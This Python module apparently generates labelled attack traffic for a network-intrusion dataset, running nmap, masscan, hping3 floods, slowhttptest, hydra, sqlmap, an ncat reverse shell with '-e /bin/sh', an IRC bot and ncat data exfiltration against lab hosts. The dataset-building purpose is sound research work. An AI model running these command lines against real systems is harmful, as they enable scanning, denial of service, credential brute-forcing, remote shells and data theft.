"""Attacks, each run by a real tool from an attacker host against a lab target
for a bounded time, with options drawn from the run's seed. Each run is one
label record: attacker, target, class, tool, options, from when to when.
Class names reuse UNSW-NB15's where they mean the same thing (Reconnaissance,
DoS, Exploits, Backdoor); BruteForce, C&C and Exfiltration are the lab's own."""

import os
import random
import subprocess
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))


def nmap(kind):
    def build(r, lab, attacker, target, seconds):
        timing = r.choice(["-T3", "-T4", "-T5"])
        args = ["nmap", "-n", "-Pn", timing, "--max-retries", "1", "--host-timeout", f"{int(seconds)}s"]
        if kind == "udp":
            args += ["-sU", "--top-ports", str(r.randint(20, 100))]
        elif kind == "version":
            args += ["-sV", "--version-light", "--top-ports", str(r.randint(20, 100))]
        else:
            args += ["-sS" if kind == "syn" else "-sT", "--top-ports", str(r.choice([100, 500, 1000, 2000]))]
        return "Reconnaissance", "nmap", " ".join(args[1:]), args + [target.ip], None
    return build


def masscan(r, lab, attacker, target, seconds):
    ports = f"1-{r.choice([1000, 5000, 20000])}"
    args = ["masscan", target.ip, "-p", ports, "--rate", str(r.choice([500, 2000, 5000])), "--wait", "1",
            "--adapter", "eth0", "--adapter-ip", attacker.ip, "--router-mac", target.mac]
    return "Reconnaissance", "masscan", f"-p {ports} {' '.join(args[3:5])}", args, None


def hping(kind):
    def build(r, lab, attacker, target, seconds):
        interval = f"u{r.choice([500, 1000, 2000, 5000, 20000])}"
        if kind == "syn":
            port = str(r.choice(target.tcp_ports))
            args = ["hping3", "-S", "-p", port, "-i", interval]
        elif kind == "udp":
            args = ["hping3", "--udp", "-p", str(r.choice([53, 123, 1883, 5683, 9999])), "-d", str(r.randint(0, 512)),
                    "-i", interval]
        else:
            args = ["hping3", "--icmp", "-d", str(r.randint(0, 1000)), "-i", interval]
        return "DoS", "hping3", " ".join(args[1:]), args + [target.ip], None
    return build


def slowhttp(kind):
    def build(r, lab, attacker, target, seconds):
        mode = {"slowloris": "-H", "slowpost": "-B"}[kind]
        args = ["slowhttptest", mode, "-c", str(r.choice([100, 200, 400])), "-r", str(r.choice([20, 50, 100])),
                "-i", str(r.randint(3, 10)), "-l", str(int(seconds)), "-u", f"http://{target.ip}/", "-p", "3"]
        return "DoS", "slowhttptest", " ".join(args[1:]), args, None
    return build


def hydra(service):
    def build(r, lab, attacker, target, seconds):
        args = ["hydra", "-I", "-L", lab.wordlist("users"), "-P", lab.wordlist("passwords"),
                "-t", str(r.choice([2, 4])), "-W", "0", f"{service}://{target.ip}"]
        return "BruteForce", "hydra", f"{service} -t {args[6]}", args, None
    return build


def sqlmap(r, lab, attacker, target, seconds):
    args = ["sqlmap", "-u", f"http://{target.ip}:8080/item?id={r.randint(1, 40)}", "--batch", "--flush-session",
            "--level", str(r.randint(1, 3)), "--risk", str(r.randint(1, 2)), "--threads", str(r.choice([1, 2, 4])),
            "--technique", r.choice(["BEUST", "BT", "U", "BEU"]), "--output-dir", os.path.join(lab.work, "sqlmap"),
            r.choice(["--tables", "--dump", "--banner"])]
    return "Exploits", "sqlmap", " ".join(args[3:]), args, None


def reverse_shell(r, lab, attacker, target, seconds):
    """The victim (an IoT host) connects out to the attacker's listener and
    runs what it is sent: a few harmless reads."""
    port = str(r.choice([4444, 443, 8443, 31337]))

    def victim(attacker):
        commands = ["id", "uname -a", "ls /etc", "cat /etc/hostname", "ps ax | head -20", "cat /proc/cpuinfo"]
        listener = lab.net.spawn(attacker.namespace, ["ncat", "-l", "-p", port], stdin=subprocess.PIPE)
        time.sleep(0.5)
        shell = lab.net.spawn(target.namespace, ["ncat", attacker.ip, port, "-e", "/bin/sh"])
        end = time.time() + seconds
        try:
            while time.time() < end and listener.poll() is None and not lab.stop.is_set():
                listener.stdin.write((r.choice(commands) + "\n").encode())
                listener.stdin.flush()
                time.sleep(r.uniform(0.5, 3.0))
            listener.stdin.write(b"exit\n")
            listener.stdin.flush()
        except (BrokenPipeError, OSError):
            pass
        time.sleep(0.5)
        lab.net.stop(shell)
        lab.net.stop(listener)
    return "Backdoor", "ncat", f"reverse shell to port {port}", None, victim


def irc_bot(r, lab, attacker, target, seconds):
    beacon = r.uniform(1.0, 5.0)

    def victim(attacker):
        nick = f"bot{r.getrandbits(20)}"
        bot = lab.net.spawn(target.namespace, ["/usr/bin/python3", os.path.join(HERE, "ircbot.py"), attacker.ip,
                                               "6667", nick, str(seconds), f"{beacon:.2f}"])
        try:
            bot.wait(timeout=seconds + 10)
        except subprocess.TimeoutExpired:
            lab.net.stop(bot)
    return "C&C", "ircbot (ngircd server)", f"beacon every {beacon:.1f} s", None, victim


def exfiltration(r, lab, attacker, target, seconds):
    size = r.choice([1, 2, 4]) << 20
    port = str(r.choice([443, 8080, 53000]))

    def victim(attacker):
        sink = lab.net.spawn(attacker.namespace, ["ncat", "-l", "-p", port, "--recv-only"])
        time.sleep(0.5)
        send = lab.net.spawn(target.namespace, ["sh", "-c", f"head -c {size} /dev/urandom | ncat --send-only "
                                                              f"{attacker.ip} {port}"])
        try:
            send.wait(timeout=seconds)
        except subprocess.TimeoutExpired:
            pass
        lab.net.stop(send)
        lab.net.stop(sink)
    return "Exfiltration", "ncat", f"{size >> 20} MiB to port {port}", None, victim


# (build, which hosts it targets)
CATALOGUE = [
    (nmap("syn"), "any"), (nmap("connect"), "any"), (nmap("udp"), "any"), (nmap("version"), "servers"),
    (masscan, "any"),
    (hping("syn"), "servers"), (hping("udp"), "any"), (hping("icmp"), "any"),
    (slowhttp("slowloris"), "web"), (slowhttp("slowpost"), "web"),
    (hydra("ssh"), "server"), (hydra("ftp"), "server"),
    (sqlmap, "web"),
    (reverse_shell, "devices"), (irc_bot, "devices"), (exfiltration, "devices"),
]


class Attacker(threading.Thread):
    """Runs attacks one after another, each kind once before any repeats, with
    pauses between them, until the run ends."""

    def __init__(self, lab, attacker, seed, length):
        super().__init__(daemon=True)
        self.lab, self.attacker, self.rng, self.length = lab, attacker, random.Random(seed), length

    def run(self):
        order = []
        self.lab.stop.wait(self.rng.uniform(2.0, 6.0))
        while not self.lab.stop.is_set():
            if not order:
                order = list(CATALOGUE)
                self.rng.shuffle(order)
            build, targets = order.pop()
            seconds = min(self.rng.uniform(*self.length), self.lab.seconds_left() - 2)
            if seconds < 3:
                break
            target = self.rng.choice(self.lab.targets(targets))
            label, tool, detail, args, victim = build(self.rng, self.lab, self.attacker, target, seconds)
            start = time.time()
            if victim is not None:
                victim(self.attacker)
            else:
                log = self.lab.attack_log(tool)
                proc = self.lab.net.spawn(self.attacker.namespace, args, env=self.lab.tool_env, stdout=log,
                                          stderr=subprocess.STDOUT)
                try:
                    proc.wait(timeout=seconds)
                except subprocess.TimeoutExpired:
                    self.lab.net.stop(proc, wait=2.0)
            end = time.time()
            self.lab.record(start, end, self.attacker, target, "*", "*", label, tool, detail)
            # Quiet between attacks, so that late replies belong to the one before.
            self.lab.stop.wait(self.rng.uniform(2.0, 5.0))
